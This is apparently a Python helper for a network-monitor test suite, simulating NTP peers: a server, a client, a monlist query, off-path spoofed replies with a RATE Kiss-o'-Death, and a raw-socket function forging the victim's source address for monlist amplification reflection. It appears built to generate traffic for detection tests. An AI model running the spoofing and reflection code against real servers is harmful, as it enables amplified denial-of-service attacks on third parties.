"""Small NTP peers for test_netmon_ntp.py, run inside the test's network namespaces.

  serve ADDR               answers mode 3 (mode 4, stratum 2), mode 6 (a readvar response) and
                           mode 7 (a three-packet monlist response of 440-byte packets)
  spoof ADDR               answers mode 3 correctly, then sends a reply with a wrong origin and a
                           RATE Kiss-o'-Death that match no request (an off-path attacker's packets)
  client ADDR N            N mode 3 requests, one at a time, each waiting for its reply
  monlist ADDR             one mode 7 MON_GETLIST_1 request (ntpdc's monlist), reads what comes
  reflect SERVER VICTIM    a mode 7 monlist request with the victim's address as source (raw socket)
Everything stops by itself: servers after 120 s, clients after their last reply or 2 s.
"""
import os
import socket
import struct
import sys
import time

NTP_EPOCH = 2208988800


def ntp_now(skew=0.0):
    t = time.time() + skew + NTP_EPOCH
    return int(t) << 32 | int((t % 1) * 2**32)


def header(mode, stratum=2, refid=0, origin=0, receive=0, transmit=0, version=4):
    return struct.pack(">BBbbIII QQQQ".replace(" ", ""), version << 3 | mode, stratum, 6, -20,
                       0x100, 0x100, refid, transmit, origin, receive, transmit)


def monlist_request():
    return bytes([0x17, 0x00, 0x03, 0x2A]) + bytes(4)


def monlist_responses():
    packets = []
    for i in range(3):
        first = 0xD7 if i < 2 else 0x97  # R, M (more) except on the last, VN 2, mode 7
        packets.append(bytes([first, i, 0x03, 0x2A]) + struct.pack(">HH", 6, 72) + bytes(6 * 72))
    return packets


def readvar_response(sequence):
    data = b'version="ntpd 4.2.8", processor="x86_64", system="Linux"'
    pad = bytes((4 - len(data) % 4) % 4)
    return struct.pack(">BBHHHHH", 0x16, 0x82, sequence, 0x0615, 0, 0, len(data)) + data + pad


def serve(address, spoof=False):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, 123))
    sock.settimeout(0.5)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            data, peer = sock.recvfrom(2048)
        except socket.timeout:
            continue
        if not data:
            continue
        mode = data[0] & 7
        if mode == 3 and len(data) >= 48:
            transmit = struct.unpack(">Q", data[40:48])[0]
            now = ntp_now()
            sock.sendto(header(4, origin=transmit, receive=now, transmit=now), peer)
            if spoof:
                sock.sendto(header(4, origin=transmit ^ 0x5A5A, receive=now, transmit=now), peer)
                sock.sendto(header(4, stratum=0, refid=0x52415445, origin=0x1234), peer)
        elif mode == 6 and len(data) >= 12:
            sock.sendto(readvar_response(struct.unpack(">H", data[2:4])[0]), peer)
        elif mode == 7 and len(data) >= 4 and data[3] in (20, 42):
            for packet in monlist_responses():
                sock.sendto(packet, peer)


def client(address, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    for _ in range(count):
        transmit = ntp_now() ^ (os.getpid() & 0xFFFF)
        sock.sendto(header(3, stratum=0, transmit=transmit), (address, 123))
        while True:
            data = sock.recv(2048)
            if struct.unpack(">Q", data[24:32])[0] == transmit:
                break
        time.sleep(0.05)


def monlist(address):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(monlist_request(), (address, 123))
    got = 0
    try:
        while got < 3:
            sock.recv(2048)
            got += 1
    except socket.timeout:
        pass
    print(f"monlist: {got} packets")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reflect(server, victim, victim_port=80):
    payload = monlist_request()
    udp = struct.pack(">HHHH", victim_port, 123, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton(victim), socket.inet_aton(server))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(3):
        sock.sendto(ip + udp, (server, 0))
        time.sleep(0.05)


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    if command in ("serve", "spoof"):
        serve(args[0], spoof=command == "spoof")
    elif command == "client":
        client(args[0], int(args[1]))
    elif command == "monlist":
        monlist(args[0])
    elif command == "reflect":
        reflect(args[0], args[1])
